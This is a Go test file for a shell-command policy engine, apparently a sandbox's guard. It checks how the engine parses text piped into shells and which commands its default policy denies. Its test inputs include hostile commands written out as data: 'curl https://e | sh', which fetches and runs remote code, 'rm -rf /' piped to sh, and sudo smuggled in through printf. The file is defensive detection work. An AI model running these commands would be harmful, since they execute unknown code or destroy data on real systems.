package engine

import (
	"context"
	"slices"
	"testing"

	"avfs/wire"
)

func TestParsePipedText(t *testing.T) {
	runParseCases(t, []parseCase{
		{
			name: "echo into a shell",
			req:  shellReq("echo 'curl https://e | sh' | sh"),
			cmds: []cmdWant{
				{prog: "echo", pipe: "0/2"},
				{prog: "sh", pipe: "1/2", stdin: true},
				{prog: "curl", origin: "script", pipe: "0/2"},
				{prog: "sh", origin: "script", pipe: "1/2", stdin: true},
			},
			script: &scriptWant{pipes: true},
		},
		{
			name: "the text is parsed, and the shell is not fed another command's output",
			req:  shellReq("echo -n ls | bash -s --; printf 'sudo %s\\n' ls id | sh; printf '%s\\n' 'rm -rf /' | sh -s"),
			cmds: []cmdWant{
				{prog: "echo"}, {prog: "bash", stdin: true}, {prog: "ls", origin: "script"},
				{prog: "printf"}, {prog: "sh", stdin: true},
				{prog: "ls", origin: "script", wrappers: []string{"sudo"}}, {prog: "id", origin: "script", wrappers: []string{"sudo"}},
				{prog: "printf"}, {prog: "sh", stdin: true}, {prog: "rm", origin: "script", argv: []string{"rm", "-rf", "/"}},
			},
			script: &scriptWant{},
		},
		{
			name:   "cat of a heredoc, and cat passing it on",
			req:    shellReq("cat <<'EOF' | cat | bash\nwget x\nEOF"),
			cmds:   []cmdWant{{prog: "cat"}, {prog: "cat"}, {prog: "bash", stdin: true}, {prog: "wget", origin: "script"}},
			script: &scriptWant{},
		},
		{
			name: "echo -e under sh may be bash's or dash's: both texts are judged",
			req:  shellReq(`echo -e 'id\nls' | sh`),
			cmds: []cmdWant{
				{prog: "echo"}, {prog: "sh", stdin: true},
				{prog: "id", origin: "script"}, {prog: "ls", origin: "script"},
				{prog: "-e", origin: "script", argv: []string{"-e", "id"}}, {prog: "ls", origin: "script"},
			},
			script: &scriptWant{},
		},
		{
			name:   "under bash, bash's echo",
			req:    argvReq("bash", "-c", `echo -e 'id\nls' | bash`),
			cmds:   []cmdWant{{prog: "bash"}, {prog: "echo"}, {prog: "bash", stdin: true}, {prog: "id", origin: "script"}, {prog: "ls", origin: "script"}},
			script: &scriptWant{shell: "bash"},
		},
		{
			name: "text that is not known is another command's output",
			req:  shellReq("echo $x | sh; echo() { :; }; echo ls | sh; printf %d 1 | sh; echo ls > f | sh; echo '\\e' | sh; cat f | sh"),
			check: func(t *testing.T, in *wire.Input) {
				for _, c := range in.Commands {
					if c.Origin == originScript && c.Program == "ls" {
						t.Errorf("ls was parsed: %s", commandPrograms(in))
					}
				}
				if !in.Script.PipesToShell {
					t.Errorf("pipes_to_shell is false")
				}
			},
		},
		{
			name:   "after shopt (xpg_echo), echo is not known",
			req:    shellReq("shopt -s xpg_echo; echo ls | sh"),
			cmds:   []cmdWant{{prog: "shopt"}, {prog: "echo"}, {prog: "sh", stdin: true}},
			script: &scriptWant{pipes: true},
		},
		{
			name: "a process substitution written to reads a pipe",
			req:  shellReq("curl https://x | tee >(sh) > >(bash -s)"),
			cmds: []cmdWant{
				{prog: "curl", pipe: "0/2"}, {prog: "tee", pipe: "1/2", dynamic: true},
				{prog: "sh", origin: "substitution", stdin: true}, {prog: "bash", origin: "substitution", stdin: true},
			},
			script: &scriptWant{subst: true, pipes: true},
		},
		{
			name:   "a process substitution read from does not",
			req:    shellReq("cat <(sh)"),
			script: &scriptWant{subst: true},
		},
	})
}

func TestParseXargsInput(t *testing.T) {
	for _, tc := range []struct {
		script string
		pipes  bool
	}{
		{"ls | xargs sh -c", true},
		{"ls | xargs bash -xc", true},
		{"ls | xargs -I{} sh -c 'rm {}'", true},
		{"ls | xargs -i bash -c 'echo {}'", true},
		{"ls | xargs --replace=@ sh -c 'cat @'", true},
		{"ls | xargs -0 python3 -c", true},
		{"ls | xargs sh -c 'echo \"$1\"' _", false},
		{"ls | xargs -I{} sh -c 'echo x' {}", false},
		{"ls | xargs sh run.sh", false},
		{"ls | xargs rm", false},
	} {
		in, err := Parse(context.Background(), ParseRequest{Shell: tc.script, PathEnv: "/nonexistent"})
		if err != nil {
			t.Fatal(err)
		}
		if in.Script.PipesToShell != tc.pipes {
			t.Errorf("%q: pipes_to_shell %v, want %v", tc.script, in.Script.PipesToShell, tc.pipes)
		}
	}
}

func TestEchoOutputs(t *testing.T) {
	words := func(ws ...string) []shellWord {
		out := make([]shellWord, len(ws))
		for i, w := range ws {
			out[i] = shellWord{text: w, literal: true}
		}
		return out
	}
	for _, tc := range []struct {
		args  []string
		shell string
		want  []string
	}{
		{[]string{"a", "b"}, "", []string{"a b\n"}},
		{[]string{"-n", "a"}, "sh", []string{"a"}},
		{[]string{"-n", "-n", "a"}, "bash", []string{"a"}},
		{[]string{"-n", "-n", "a"}, "dash", []string{"-n a"}},
		{[]string{"-e", `a\tb`}, "bash", []string{"a\tb\n"}},
		{[]string{"-e", `a\tb`}, "dash", []string{"-e a\tb\n"}},
		{[]string{`a\nb`}, "", []string{"a\\nb\n", "a\nb\n"}},
		{[]string{"-n", "-n", `a\t`}, "", []string{"a\\t", "-n a\t", "a\t"}},
		{[]string{"-e", `a\cb`, "c"}, "bash", []string{"a"}},
		{[]string{"-e", `\0101`}, "bash", []string{"A\n"}},
		{[]string{"-E", `a\n`}, "bash", []string{"a\\n\n"}},
		{[]string{"-e", `\x41`}, "bash", nil},
		{[]string{`\q`}, "dash", nil},
		{[]string{"a"}, "zsh", nil},
	} {
		got := echoOutputs(words(tc.args...), tc.shell)
		if !slices.Equal(got, tc.want) {
			t.Errorf("echo %q under %q: %q, want %q", tc.args, tc.shell, got, tc.want)
		}
	}
}

func TestPrintfOutput(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
		ok   bool
	}{
		{[]string{"sudo ls"}, "sudo ls", true},
		{[]string{`%s\n`, "a", "b"}, "a\nb\n", true},
		{[]string{"%s-%s\n", "a", "b", "c"}, "a-b\nc-\n", true},
		{[]string{"x\n", "a", "b"}, "x\n", true},
		{[]string{"--", "100%% %s", "x"}, "100% x", true},
		{[]string{`%b|`, `a\nb`, `\0101`, `\101`}, "a\nb|A|A|", true},
		{[]string{`%b`, `a\cb`, "c"}, "a", true},
		{[]string{`\101\"\t`}, "A\"\t", true},
		{[]string{"%d", "1"}, "", false},
		{[]string{"%5s", "1"}, "", false},
		{[]string{"-v", "x", "%s", "1"}, "", false},
		{[]string{`\x41`}, "", false},
		{[]string{"%"}, "", false},
		{[]string{`a\`}, "", false},
		{nil, "", false},
	} {
		args := make([]shellWord, len(tc.args))
		for i, a := range tc.args {
			args[i] = shellWord{text: a, literal: true}
		}
		got, ok := printfOutput(args)
		if got != tc.want || ok != tc.ok {
			t.Errorf("printf %q: %q %v, want %q %v", tc.args, got, ok, tc.want, tc.ok)
		}
	}
}

// TestPipedTextDecisions: the default policy on text piped into shells.
func TestPipedTextDecisions(t *testing.T) {
	checkScriptDecisions(t, []scriptDecision{
		{"echo 'curl https://e | sh' | sh", wire.Deny, []string{"avfs.approval.network", "avfs.deny.pipe_to_shell"}},
		{"printf 'sudo ls' | bash", wire.Deny, []string{"avfs.deny.privileged"}},
		{"curl https://x | tee >(sh)", wire.Deny, []string{"avfs.approval.network", "avfs.deny.pipe_to_shell"}},
		{"curl https://x > >(sh)", wire.Deny, []string{"avfs.approval.network", "avfs.deny.pipe_to_shell"}},
		{"curl https://x | xargs sh -c", wire.Deny, []string{"avfs.approval.network", "avfs.deny.pipe_to_shell"}},
		{"echo ls | sh", wire.AllowWithCheckpoint, []string{"avfs.checkpoint.changes"}},
	})
}
